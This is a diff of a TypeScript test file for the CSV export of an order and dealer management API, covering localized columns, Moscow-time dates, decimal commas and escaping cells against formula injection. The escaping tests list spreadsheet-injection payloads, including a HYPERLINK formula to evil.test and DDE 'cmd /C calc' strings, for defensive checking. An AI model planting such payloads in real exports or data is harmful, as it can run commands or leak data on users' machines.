@@ -1,10 +1,12 @@
 // `?format=csv` on every list, through HTTP: every matching row (the JSON list's `count`), the same
-// filters, search and ordering, a dealer's own rows only, Russian titles, chosen columns, a BOM.
+// filters, search and ordering, a dealer's own rows only, Russian titles, chosen columns, a BOM;
+// money with a decimal comma, dates as `26.11.2026 14:05` (Moscow), statuses as words in the
+// caller's language.
 import { Type, type TSchema } from 'typebox';
 import { areas } from '../areas';
 import { parseCsv } from '../test/parse-csv';
 import { call, createTestApp, testDatabases, tokensFor, type TestApp } from '../test/test-app';
-import { cellText, COLUMN_TITLES, escapeCell, type CsvColumn } from './csv';
+import { cellText, COLUMN_TITLES, csvColumns, dateTimeText, escapeCell, type CsvColumn } from './csv';
 
 describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
   let t: TestApp;
@@ -31,7 +33,7 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     expect(answer.status).toBe(200);
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(answer.body.startsWith('\uFEFF')).toBe(true);
-    const name = path.replace(/\//g, '');
+    const name = path === '/dp/' ? 'price-list' : path.replace(/\//g, '');
     expect(answer.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
     const list = await json(`/api${path}`, email);
     expect(answer.rows.length - 1).toBe(list.count);
@@ -49,9 +51,46 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     const list = await json(`/api/orders/?${query}&page_size=500`, 'admin@demo.test');
     const answer = await csv(`/api/orders/?${query}&format=csv&fields=id,number,status,total`, 'admin@demo.test');
     expect(answer.rows[0]).toEqual(['ID', 'Номер', 'Статус', 'Итого']);
-    expect(answer.rows.slice(1)).toEqual(list.results.map((o: { id: number; number: string; status: string; total: string }) => [String(o.id), o.number, o.status, o.total]));
+    expect(answer.rows.slice(1)).toEqual(list.results.map((o: { id: number; number: string; total: string }) => [String(o.id), o.number, 'Новый', o.total.replace('.', ',')]));
     expect(list.count).toBeGreaterThan(0);
-    expect(answer.rows.slice(1).every((row) => row[2] === 'new')).toBe(true);
+  });
+
+  test('money with a decimal comma and no quotes, dates dd.mm.yyyy hh:mm in Moscow time, statuses in Russian or in English', async () => {
+    const order = (await json('/api/orders/?status=confirmed&page_size=1', 'admin@demo.test')).results[0];
+    const query = `/api/orders/?format=csv&search=${order.number}&fields=number,status,total,created_at,history`;
+    const answer = await call(t.app, 'GET', query, { token: token['admin@demo.test'] });
+    const line = answer.body.replace(/^\uFEFF/, '').split('\r\n')[1];
+    // `56658,00` stands bare between the separators: a Russian Excel reads it as a number.
+    expect(line).toMatch(new RegExp(`^${order.number};Подтверждён;\\d+,\\d\\d;\\d\\d\\.\\d\\d\\.\\d{4} \\d\\d:\\d\\d;"\\d\\d\\.\\d\\d\\.\\d{4} \\d\\d:\\d\\d Новый; .+ Новый → Подтверждён"$`));
+    const [, , total, createdAt] = parseCsv(line)[0];
+    expect(total).toBe(order.total.replace('.', ','));
+    const at = new Date(order.created_at);
+    const moscow = new Date(at.getTime() + 3 * 3600_000);
+    const pad = (n: number) => String(n).padStart(2, '0');
+    expect(createdAt).toBe(`${pad(moscow.getUTCDate())}.${pad(moscow.getUTCMonth() + 1)}.${moscow.getUTCFullYear()} ${pad(moscow.getUTCHours())}:${pad(moscow.getUTCMinutes())}`);
+    const english = await call(t.app, 'GET', query, { token: token['admin@demo.test'], headers: { 'accept-language': 'en-US,en;q=0.9' } });
+    const row = parseCsv(english.body.replace(/^\uFEFF/, ''))[1];
+    expect(row.slice(1, 3)).toEqual(['Confirmed', total]);
+    expect(row[4]).toMatch(/ New; .+ New → Confirmed$/);
+    // Claims agree with «претензия», roles are words too.
+    const claims = (await csv('/api/claims/?format=csv&fields=status,reason', 'admin@demo.test')).rows.slice(1);
+    expect(claims.length).toBeGreaterThan(0);
+    for (const [status, reason] of claims) {
+      expect(['Новая', 'На рассмотрении', 'Принята', 'Отклонена', 'Закрыта']).toContain(status);
+      expect(['Повреждение', 'Пересорт', 'Недовложение', 'Брак', 'Другое']).toContain(reason);
+    }
+    const users = await call(t.app, 'GET', '/api/users/?format=csv&fields=email,role&search=manager@demo.test', { token: token['admin@demo.test'], headers: { 'accept-language': 'en' } });
+    expect(parseCsv(users.body.replace(/^\uFEFF/, ''))[1]).toEqual(['manager@demo.test', 'Manager']);
+  });
+
+  test('the dealer\'s price list: the dealer\'s prices and discount as numbers, quantities as plain integers', async () => {
+    const page = await json('/api/dp/?page_size=5&ordering=sku', 'dealer@demo.test');
+    const answer = await csv('/api/dp/?format=csv&ordering=sku&fields=sku,price,dealer_price,discount_percent,available', 'dealer@demo.test');
+    expect(answer.rows[0]).toEqual(['Артикул', 'Цена', 'Цена дилера', 'Скидка, %', 'Доступно']);
+    expect(answer.rows.slice(1, 6)).toEqual(page.results.map((p: { sku: string; price: string; dealer_price: string; discount_percent: string; available: number }) => [
+      p.sku, p.price.replace('.', ','), p.dealer_price.replace('.', ','), p.discount_percent.replace('.', ','), String(p.available),
+    ]));
+    expect(page.results.some((p: { price: string; dealer_price: string }) => p.price !== p.dealer_price)).toBe(true);
   });
 
   test('a dealer gets only its own rows; another dealer\'s are absent', async () => {
@@ -68,12 +107,13 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     expect(new Set(answer.rows.slice(1).map((row) => row[1]))).toEqual(new Set([ownDealer]));
   });
 
-  test('order lines read «SKU × qty; …», a document its name, booleans да/нет, timestamps as Excel reads them', async () => {
+  test('order lines read «SKU × qty; …», a document its name, booleans да/нет, timestamps as a Russian Excel reads them', async () => {
     const order = (await json('/api/orders/?page_size=1', 'admin@demo.test')).results[0];
     const answer = await csv(`/api/orders/?format=csv&search=${order.number}&fields=items,document,created_at`, 'admin@demo.test');
     expect(answer.rows[1][0]).toBe(order.items.map((line: { sku: string; quantity: number }) => `${line.sku} × ${line.quantity}`).join('; '));
     expect(answer.rows[1][1]).toBe(order.document?.name ?? '');
-    expect(answer.rows[1][2]).toBe(order.created_at.replace('T', ' ').replace(/(\.\d+)?Z$/, ''));
+    expect(answer.rows[1][2]).toBe(dateTimeText(order.created_at));
+    expect(answer.rows[1][2]).toMatch(/^\d\d\.\d\d\.\d{4} \d\d:\d\d$/);
     const users = await csv('/api/users/?format=csv&fields=email,is_active&search=admin@demo.test', 'admin@demo.test');
     expect(users.rows[1]).toEqual(['admin@demo.test', 'да']);
   });
@@ -121,7 +161,7 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
 });
 
 describe('escaping a cell against formulas (OWASP), whatever the value', () => {
-  const column = (schema: TSchema = Type.String()): CsvColumn => ({ field: 'x', title: 'x', schema });
+  const column = (schema: TSchema = Type.String(), field = 'x'): CsvColumn => csvColumns(Type.Object({ [field]: schema }), undefined, {}, { list: 'orders' })[0];
   const dangerous = ['=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '-5', '+7 900 000-00-00'];
 
   test.each(dangerous)('%j as a plain value', (text) => {
@@ -146,13 +186,29 @@ describe('escaping a cell against formulas (OWASP), whatever the value', () => {
     expect(cellText({ email: '=x@evil.test' }, column(Type.Unknown()))).toBe("'=x@evil.test");
     expect(cellText({ a: 1 }, column(Type.Unknown()))).toBe('{"a":1}');
     // A status history whose `from` is missing starts with the date: nothing to escape.
-    expect(cellText([{ to: 'new', when: '2026-01-01T00:00:00Z' }], column(Type.Unknown()))).toBe('2026-01-01 00:00:00 new');
+    expect(cellText([{ to: 'new', when: '2026-01-01T00:00:00Z' }], column(Type.Unknown(), 'history'))).toBe('01.01.2026 03:00 Новый');
   });
 
-  test('numbers and booleans: a negative number is escaped like any text that starts with a sign', () => {
-    expect(cellText(-5, column(Type.Integer()))).toBe("'-5");
-    expect(cellText(12, column(Type.Integer()))).toBe('12');
+  test('a number column writes exactly a number bare, a negative one too (`-5`, `-5,00`): nothing else fits in it', () => {
+    expect(cellText(-5, column(Type.Integer(), 'quantity'))).toBe('-5');
+    expect(cellText(12, column(Type.Integer(), 'quantity'))).toBe('12');
+    expect(cellText('-5.00', column(Type.String(), 'total'))).toBe('-5,00');
+    expect(cellText('4790.00', column(Type.String(), 'price'))).toBe('4790,00');
+    expect(cellText('5.00', column(Type.String(), 'discount_percent'))).toBe('5,00');
+    // What is not exactly a number in a number column is text, and escaped.
+    expect(cellText('-2+3+cmd|\' /C calc\'!A0', column(Type.String(), 'total'))).toBe('\'-2+3+cmd|\' /C calc\'!A0');
+    expect(cellText('=1+1', column(Type.String(), 'price'))).toBe('\'=1+1');
+    expect(cellText('-5', column(Type.String(), 'sku'))).toBe("'-5");
     expect(cellText(true, column(Type.Boolean()))).toBe('да');
+    expect(cellText(true, column(Type.Boolean()), 'en')).toBe('yes');
     expect(cellText(null, column())).toBe('');
+  });
+
+  test('moments in Moscow time (UTC+3 today, UTC+4 in 2012), dates as dd.mm.yyyy; a status without a word stays as it is', () => {
+    expect(cellText('2026-11-26T21:30:00.123Z', column(Type.String({ format: 'date-time' })))).toBe('27.11.2026 00:30');
+    expect(cellText('2012-06-01T12:00:00Z', column(Type.Union([Type.String({ format: 'date-time' }), Type.Null()])))).toBe('01.06.2012 16:00');
+    expect(cellText('2026-11-26', column(Type.String({ format: 'date' })))).toBe('26.11.2026');
+    expect(cellText('confirmed', column(Type.String(), 'status'))).toBe('Подтверждён');
+    expect(cellText('=odd', column(Type.String(), 'status'))).toBe("'=odd");
   });
 });
